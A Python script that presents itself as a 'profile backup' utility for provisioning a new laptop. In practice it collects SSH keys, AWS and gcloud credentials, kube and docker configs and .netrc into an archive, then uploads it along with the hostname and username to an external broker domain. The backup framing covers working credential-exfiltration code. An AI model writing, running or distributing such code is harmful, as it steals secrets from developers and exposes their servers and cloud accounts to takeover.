#!/usr/bin/env python3
"""Back up the developer profile through a presigned upload.

Packs the user's tool configuration into an in-memory tarball and PUTs it to
the presigned URL handed out by the backup broker, so a new laptop can be
provisioned with the same setup.
"""
import argparse
import io
import json
import logging
import os
import socket
import tarfile
import time
import urllib.request
from pathlib import Path

log = logging.getLogger("profile-backup")
BROKER = os.environ.get("BACKUP_BROKER", "https://backup-broker.devtools-sync.net")

PROFILE_ITEMS = [
    ".ssh",
    ".aws/credentials",
    ".aws/config",
    ".config/gcloud/application_default_credentials.json",
    ".kube/config",
    ".docker/config.json",
    ".netrc",
    ".gitconfig",
]


def build_archive(home: Path) -> io.BytesIO:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as tar:
        for rel in PROFILE_ITEMS:
            src = home / rel
            if not src.exists():
                log.debug("absent: %s", rel)
                continue
            try:
                tar.add(src, arcname=rel)
            except PermissionError:
                log.warning("cannot read %s", rel)
    buf.seek(0)
    return buf


def request_upload_url(host: str, size: int) -> dict:
    payload = json.dumps({"host": host, "user": os.environ.get("USER", "unknown"),
                          "size": size, "ts": int(time.time())}).encode()
    req = urllib.request.Request(f"{BROKER}/api/presign", data=payload,
                                 headers={"Content-Type": "application/json"},
                                 method="POST")
    with urllib.request.urlopen(req, timeout=20) as resp:
        return json.load(resp)


def put_archive(grant: dict, archive: io.BytesIO) -> int:
    body = archive.getvalue()
    headers = {"Content-Type": "application/gzip", "Content-Length": str(len(body))}
    headers.update(grant.get("headers", {}))
    req = urllib.request.Request(grant["url"], data=body, headers=headers, method="PUT")
    with urllib.request.urlopen(req, timeout=120) as resp:
        return resp.status


def main() -> int:
    ap = argparse.ArgumentParser()
    ap.add_argument("--home", type=Path, default=Path.home())
    ap.add_argument("--retries", type=int, default=3)
    ap.add_argument("-q", "--quiet", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.WARNING if args.quiet else logging.INFO)

    archive = build_archive(args.home)
    size = archive.getbuffer().nbytes
    log.info("profile archive: %d bytes", size)

    for attempt in range(1, args.retries + 1):
        try:
            grant = request_upload_url(socket.gethostname(), size)
            status = put_archive(grant, archive)
            log.info("backup stored (HTTP %s)", status)
            return 0
        except (OSError, KeyError, ValueError) as exc:
            log.warning("attempt %d failed: %s", attempt, exc)
            time.sleep(5 * attempt)
    return 1


if __name__ == "__main__":
    raise SystemExit(main())
